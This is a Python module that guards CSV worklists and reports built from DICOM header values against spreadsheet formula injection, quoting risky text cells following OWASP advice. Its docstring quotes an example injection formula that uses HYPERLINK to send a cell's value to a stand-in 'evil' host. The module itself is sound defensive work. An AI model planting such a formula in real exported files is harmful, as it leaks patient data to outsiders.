"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is quoted.

Worklists and reports carry values copied from DICOM headers (accession numbers, patient
IDs, device names, reasons quoting them). A cell starting with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil/?"&A2, "open")`` in an accession number would run when a reader
opens the worklist. Following OWASP ("CSV Injection"), such a text cell is written with a
leading single quote, which spreadsheets show as text and hide. A text cell that itself
starts with a quote gets one more, so `restore_cell` gives back exactly what was written.

Only text cells are changed: a numeric column's number (``-0.5``) stays a number.
"""

from __future__ import annotations

from collections.abc import Collection, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralize_cell(value: str) -> str:
    """`value` with a leading single quote when a spreadsheet would read it as a formula.

    Example:
        >>> neutralize_cell('=HYPERLINK("http://x", "y")')
        '\\'=HYPERLINK("http://x", "y")'
        >>> neutralize_cell("ACC123")
        'ACC123'
    """
    if value[:1] in FORMULA_STARTS or value.startswith(QUOTE):
        return QUOTE + value
    return value


def restore_cell(value: str) -> str:
    """The text `neutralize_cell` was given (drops the one leading quote it added)."""
    return value[1:] if value.startswith(QUOTE) else value


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def safe_row(row: Mapping[str, Any], numeric: Collection[str] = ()) -> dict[str, Any]:
    """`row` with every text cell neutralized; non-text values and numbers in the
    `numeric` columns are left as they are (a text that is no number is neutralized)."""
    out = {}
    for key, value in row.items():
        if isinstance(value, str) and not (key in numeric and _is_number(value)):
            value = neutralize_cell(value)
        out[key] = value
    return out


def restore_row(row: Mapping[str, str], numeric: Collection[str] = ()) -> dict[str, str]:
    """The inverse of `safe_row` for a row read back from the CSV (all cells text)."""
    return {key: restore_cell(value) if isinstance(value, str) and not (
        key in numeric and _is_number(value)) else value for key, value in row.items()}
